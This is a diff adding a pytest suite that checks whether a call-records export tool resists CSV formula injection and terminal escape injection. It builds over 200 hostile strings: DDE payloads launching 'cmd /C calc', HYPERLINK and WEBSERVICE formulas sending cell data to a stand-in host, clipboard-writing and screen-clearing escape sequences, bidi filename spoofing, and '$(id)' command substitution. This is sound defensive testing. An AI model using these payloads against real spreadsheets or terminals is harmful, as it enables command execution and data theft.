@@ -1,0 +1,333 @@
+"""Hostile texts on their way into spreadsheets and terminals: nothing is run, nothing is obeyed, numbers stay.
+
+The texts come from a server, as the fields of calls and as messages; and from a user, as the name of the output.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import csv
+import fcntl
+import importlib.util
+import io
+import json
+import os
+import pty
+import re
+import struct
+import subprocess
+import sys
+import termios
+import unicodedata
+
+import pytest
+
+from tests.bulk.small_server import Answer, SmallServer
+from tests.cli.conftest import inside, launch, servetel
+from tests.torture.report import TORTURE, measured
+from tests.transport.conftest import connect, loop_log, stack
+from tests.transport.leaks import TOKEN
+
+__all__ = ["connect", "inside", "launch", "loop_log", "servetel", "stack"]
+
+pytestmark = pytest.mark.timeout(3600 if TORTURE else 60)
+
+FORMULAS = (
+    "1+1",
+    "cmd|' /C calc'!A0",
+    'HYPERLINK("http://x.example/?"&A1,"open")',
+    "SUM(1+1)*cmd|' /C calc'!A0",
+    'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
+    'WEBSERVICE("http://x.example/"&A1)',
+    'DDE("cmd";"/C calc";"!A0")',
+)
+#: What a spreadsheet takes for the beginning of a formula, and what it may not see before it.
+SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+UNSEEN = (
+    *("\t", "\r", "\n", "\0", "\r\n", "\t\t", "\x1f", "\x1e", "\x1d", "\x1c", "\x0b", "\x0c", "\x01", "\x08", "\x7f"),
+    *("\x85", "\x9f", "\u200b", "\u200e", "\u200f", "\u202e", "\u2060", "\u2066", "\ufeff", "\xad", "\u061c"),
+)
+TERMINAL = (
+    *(chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))),
+    *("\x1b[31mred", "\x1b[2J\x1b[H", "\x1b[8mhidden", "\x1b[1A\x1b[2Kgone", "\x1bc", "\x1b(0", "\x1b[5n", "\x1b[6n"),
+    *(
+        "\x1b]0;title\x07",
+        "\x1b]8;;http://x.example\x1b\\text\x1b]8;;\x1b\\",
+        "\x1b]52;c;Y2FsYw==\x07",
+        "\x1bP1$r\x1b\\",
+    ),
+    *(
+        "\x9b31mred",
+        "\x9d0;title\x9c",
+        "\x90q\x9c",
+        "\x1b_G\x1b\\",
+        "\x1b^x\x1b\\",
+        "\x1b[?1049h",
+        "\x1b[201~",
+        "\r100 %",
+    ),
+    *("a\bb\bc", "\u202egnp.exe", "\u2066left\u2069", "\u202aa\u202c", "\u200fx", "a\u2028b", "a\u2029b", "\ufff9x"),
+    *("\ud800", "x\udfff", "\U000e0041tag", "[red]x[/red]", "[link=http://x.example]x[/link]", "%s %n {0} $(id) `id`"),
+)
+TEXTS = tuple(
+    dict.fromkeys(
+        (
+            *(sign + formula for sign in SIGNS for formula in FORMULAS),
+            *(unseen + sign + FORMULAS[1] for unseen in UNSEEN for sign in ("=", "@", "\uff1d")),
+            *(
+                "=",
+                "+",
+                "-",
+                "@",
+                "==1",
+                "=\t1",
+                "+=1",
+                "-=1",
+                "@=1",
+                "+1+1",
+                "-1+1",
+                "--1",
+                "+919876543210+1",
+                "+ 12345678",
+            ),
+            *(
+                "+123",
+                "-5",
+                "+1e9",
+                "+1234567890123456",
+                "-919876543210",
+                '"=1',
+                '","=1',
+                "a\r\n=1",
+                "a\n=1,=1",
+                '"\r\n=1',
+            ),
+            *TERMINAL,
+            *(text + "=1" for text in TERMINAL[-12:]),
+        )
+    )
+)
+NUMBERS = (
+    "+911234567890",
+    "911234567890",
+    "+441632960961",
+    "+123456",
+    "+123456789012345",
+    "00911234567890",
+    "1800123456",
+)
+DAY = "2024-05-06"
+#: Fields of a call that hold text, each with a hostile one; ``notes`` may hold anything.
+FIELDS = ("agent_name", "description", "notes", "status", "recording_url", "department_name", "custom_status")
+
+
+def test_there_are_two_hundred_texts():
+    """As many as are promised, and all of them differ."""
+    assert len(TEXTS) >= 200
+
+
+# Spreadsheets --------------------------------------------------------------------------------------------------------------
+
+
+def is_formula(cell):
+    """The rule of the CSV injection guides, after what a spreadsheet may not see. A plain number is no formula."""
+    seen = cell.lstrip("".join(UNSEEN) + "\u2400")
+    return seen[:1] in SIGNS and re.fullmatch(r"[+-]?\d+(\.\d+)?", cell) is None
+
+
+def call(number):
+    text = TEXTS[number % len(TEXTS)]
+    fields = dict.fromkeys(FIELDS, text)
+    fields["client_number"] = NUMBERS[number % len(NUMBERS)]
+    return fields | {"missed_agents": [text], "contact_details": {text: text}, "call_flow": [{"name": text}], text: 1}
+
+
+def hostile(asked):
+    records = [
+        {"id": key, "date": start[:10], "time": start[11:], **call(int(key.removeprefix("call-")))}
+        for start, key in asked.rows
+    ]
+    page = {
+        "count": len(asked.found),
+        "limit": asked.limit,
+        "size": len(records),
+        "page": asked.page,
+        "results": records,
+    }
+    return Answer(body=json.dumps(page).encode())
+
+
+def hostile_calls():
+    return [
+        (f"{DAY} 10:{number // 60:02}:{number % 60:02}", f"call-{number:04}")
+        for number in range(len(TEXTS) - 1, -1, -1)
+    ]
+
+
+async def pulled(connect, path):
+    """A pull of calls whose every text is hostile; gives the rows of the file."""
+    async with SmallServer(hostile_calls(), hostile) as server:
+        receipt = await connect(server.base_url, page_size=1000).pull(path, DAY, DAY)
+    assert receipt.complete
+    assert receipt.records == len(TEXTS)
+    header, *rows = csv.reader(io.StringIO(path.read_bytes().decode(), newline=""), strict=True)
+    assert len(rows) == len(TEXTS)
+    return [dict(zip(header, row, strict=True)) for row in rows]
+
+
+async def test_no_cell_is_a_formula(connect, tmp_path):
+    """Of a pull into CSV, in fields of every kind: 0 formulas, every number as it came, every text still to be read."""
+    rows = await pulled(connect, tmp_path / "calls.csv")
+
+    formulas = [cell for row in rows for cell in row.values() if is_formula(cell)]
+    changed = 0
+    for row in rows:
+        number = int(row["id"].removeprefix("call-"))
+        changed += row["client_number"] != NUMBERS[number % len(NUMBERS)]
+        text = TEXTS[number].encode("utf-16", "surrogatepass").decode("utf-16", "replace").replace("\0", "\u2400")
+        for name in FIELDS:
+            assert row[name] in (text, f"'{text}"), (name, row[name])
+    measured(
+        "P14",
+        f"{len(TEXTS)} hostile texts in {sum(map(len, rows)):,} cells of a CSV file: {len(formulas)} formulas, "
+        f"{changed} of {len(rows)} numbers changed",
+    )
+    assert (formulas, changed) == ([], 0)
+
+
+@pytest.mark.skipif(importlib.util.find_spec("openpyxl") is None, reason="openpyxl is not installed")
+async def test_a_workbook_made_of_it_has_no_formula(connect, tmp_path):
+    """A program that carries the file over into a workbook, cell by cell, makes none either."""
+    import openpyxl
+
+    rows = await pulled(connect, tmp_path / "calls.csv")
+    sheet = openpyxl.Workbook().active
+    for row in rows:
+        sheet.append([openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.sub("", cell) for cell in row.values()])
+    assert [cell.value for cells in sheet.iter_rows() for cell in cells if cell.data_type == "f"] == []
+
+
+def test_the_rule_knows_formulas():
+    """What is looked for can be found: without the quote, most of these texts are formulas."""
+    assert is_formula("=1+1")
+    assert is_formula("\t@SUM(1)")
+    assert not is_formula("'=1+1")
+    assert not any(map(is_formula, NUMBERS))
+    assert sum(map(is_formula, TEXTS)) > 130
+
+
+# Terminals -----------------------------------------------------------------------------------------------------------------
+
+
+def obeyed(data):
+    """The characters of an output that a terminal obeys, or that nobody sees."""
+    return {character for character in data.decode() if not (character.isprintable() or character == "\n")}
+
+
+async def test_no_message_is_obeyed_by_a_terminal(inside, tmp_path):
+    """A server's message and a header, each hostile: on both streams there are line ends and what is seen."""
+    found = set()
+    told = 0
+    message = ""
+
+    def refuse(_asked):
+        body = json.dumps({"success": False, "message": f"no: {message}"}).encode()
+        retry = unicodedata.normalize("NFKD", message).encode("ascii", "ignore").decode()
+        return Answer(status=422, body=body, headers={"Retry-After": re.sub(r"[\x00-\x1f\x7f]", "", retry)})
+
+    async with SmallServer([], refuse) as server:
+        environment = {"SERVETEL_BASE_URL": server.base_url, "SERVETEL_TOKEN": TOKEN}
+        for text in TEXTS:
+            message = text
+            ended = await inside(
+                "pull", "calls.csv", "--from-date", DAY, "--to-date", DAY, "--rate", "0", **environment
+            )
+            assert ended.code == 2, ended.err
+            told += b"HTTP 422" in ended.err
+            found |= obeyed(ended.out + ended.err)
+    assert told == len(TEXTS)
+    measured("P14", f"{len(TEXTS)} hostile messages of a server on a terminal: {len(found)} control characters")
+    assert found == set()
+
+
+NAMES = tuple(text.replace("/", "_") for text in TEXTS if text.isprintable() is False and text not in ("\0", "\ud800"))
+NAMES = tuple(name for name in NAMES if "\0" not in name and not re.search("[\ud800-\udfff]", name))
+
+
+async def test_no_name_is_obeyed_by_a_terminal(inside, tmp_path):
+    """An output, an option and a column whose names are hostile: they are spelt out, also in events and in the receipt."""
+    found = set()
+    async with SmallServer(hostile_calls()[:3], hostile) as server:
+        environment = {"SERVETEL_BASE_URL": server.base_url, "SERVETEL_TOKEN": TOKEN}
+        asked = ("--from-date", DAY, "--to-date", DAY, "--rate", "0")
+        for name in NAMES if TORTURE else NAMES[::6]:
+            for arguments, code in (
+                (("pull", f"./{name}.csv", *asked), 0),
+                (("pull", f"./{name}.csv", *asked), 2),
+                (("pull", f"./{name}.csv", "--overwrite", "--json", *asked), 0),
+                (("check", f"./{name}.csv", "--rate", "0"), 0),
+                (("pull", f"./{name}", *asked), 2),
+                (("pull", "x.csv", f"--{name}", *asked), 2),
+                (("pull", "x.csv", "--columns", name, *asked), 2),
+                (("pull", "x.csv", "--direction", name, *asked), 2),
+                ((name,), 2),
+            ):
+                ended = await inside(*arguments, **environment)
+                assert ended.code == code, (arguments, ended)
+                found |= obeyed(ended.out + ended.err)
+    measured(
+        "P14", f"{len(NAMES if TORTURE else NAMES[::6])} hostile names on a terminal: {len(found)} control characters"
+    )
+    assert found == set()
+
+
+#: What the bar itself sends: the cursor, its colours, and the end of its line.
+OF_THE_BAR = re.compile(rb"\x1b\[(\?25[hl]|2K|1A|[\d;]*m)|\r")
+
+
+async def test_beside_the_bar_nothing_is_obeyed(tmp_path):
+    """On a real terminal, where a bar is drawn: beside the bar's own there is not one control byte."""
+    name = "\x1b]0;title\x07\u202e[red]x[_red].csv"
+
+    def late(asked):
+        return (
+            hostile(asked)
+            if asked.nth % 2
+            else Answer(status=503, body=json.dumps({"message": TERMINAL[-20]}).encode())
+        )
+
+    async with SmallServer(hostile_calls(), late) as server:
+        ours, theirs = pty.openpty()
+        fcntl.ioctl(theirs, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 120, 0, 0))
+        kept = {key: value for key, value in os.environ.items() if not key.startswith(("SERVETEL", "PYTHON"))}
+        asked = (f"{tmp_path}/{name}", "--from-date", DAY, "--to-date", DAY, "--rate", "0", "--page-size", "20")
+        process = subprocess.Popen(
+            [sys.executable, "-m", "servetel_async", "pull", *asked],
+            stdin=subprocess.DEVNULL,
+            stdout=theirs,
+            stderr=theirs,
+            env={
+                **kept,
+                "SERVETEL_BASE_URL": server.base_url,
+                "SERVETEL_TOKEN": TOKEN,
+                "TERM": "xterm",
+                "PYTHONUTF8": "1",
+            },
+        )
+        os.close(theirs)
+        shown = await asyncio.to_thread(read_all, ours)
+        code = await asyncio.to_thread(process.wait)
+    assert code == 0, shown
+    assert b"\x1b[?25l" in shown, "there was no bar"
+    assert obeyed(OF_THE_BAR.sub(b"", shown)) == set()
+
+
+def read_all(descriptor):
+    """All that comes out of a terminal until nobody holds its other end."""
+    shown = b""
+    with contextlib.suppress(OSError):
+        while more := os.read(descriptor, 65536):
+            shown += more
+    os.close(descriptor)
+    return shown
